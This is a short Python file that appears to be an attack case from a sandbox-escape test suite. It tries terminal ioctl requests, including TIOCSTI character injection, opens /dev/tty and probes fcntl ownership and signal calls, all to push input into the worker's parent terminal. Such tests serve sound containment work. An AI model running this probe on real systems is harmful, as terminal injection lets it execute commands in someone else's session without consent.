# /// attack
# tries = "Push characters into the terminal that the worker was started from."
# verdicts = ["accepted"]
# ///
import fcntl, termios

def attack(root, worker):
    for descriptor in (0, 1, 2, 3):
        for request in (0x5412, 0x540E, 0x5422, 0x541C, 0x8901, 0x8927, 0x541B):
            attempt(f"ioctl {request:x} on {descriptor}", fcntl.ioctl, descriptor, request, b"x" * 64)
    attempt("tty", os.open, "/dev/tty", os.O_RDWR)
    attempt("async", fcntl.fcntl, 3, fcntl.F_SETOWN, 1)
    attempt("signal", fcntl.fcntl, 3, 10, 9)
    attempt("lease", fcntl.fcntl, 3, 1024, 0)
    return LOOT
